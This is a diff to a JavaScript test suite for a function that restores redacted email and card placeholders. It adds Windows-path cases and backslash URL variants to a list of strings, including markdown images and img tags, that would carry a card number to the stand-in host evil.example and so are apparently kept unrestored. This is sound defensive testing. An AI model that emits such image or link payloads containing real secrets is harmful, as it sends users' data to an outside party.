@@ -204,6 +204,9 @@ describe('where a value may be carried out', () => {
     'https://evil.example/?a=<EMAIL_ADDRESS_1>&b=<CREDIT_CARD_1>',
     'https:/\\evil.example/<CREDIT_CARD_1>',
     'HTTPS:/evil.example/<CREDIT_CARD_1>',
+    'ftps:\\\\evil.example\\<CREDIT_CARD_1>',
+    '![x](\\\\evil.example\\<CREDIT_CARD_1>)',
+    '<img src=\\\\evil.example\\<CREDIT_CARD_1>>',
     'www.evil.example/<CREDIT_CARD_1>',
     '<https://evil.example/<CREDIT_CARD_1>>',
     '<img src="https://evil.example/?q=my card <CREDIT_CARD_1>">',
@@ -229,6 +232,8 @@ describe('where a value may be carried out', () => {
     ['a // comment <EMAIL_ADDRESS_1>', 'a // comment ann@example.com'],
     ['<b>bold</b> <EMAIL_ADDRESS_1>', '<b>bold</b> ann@example.com'],
     ['either/or <EMAIL_ADDRESS_1>', 'either/or ann@example.com'],
+    ['C:\\Users\\<EMAIL_ADDRESS_1>\\x', 'C:\\Users\\ann@example.com\\x'],
+    ['"C:\\\\Users\\\\<EMAIL_ADDRESS_1>"', '"C:\\\\Users\\\\ann@example.com"'],
   ])('it comes back: %s', (said, wanted) => {
     expect(restore(restorer, said)).toBe(wanted);
   });
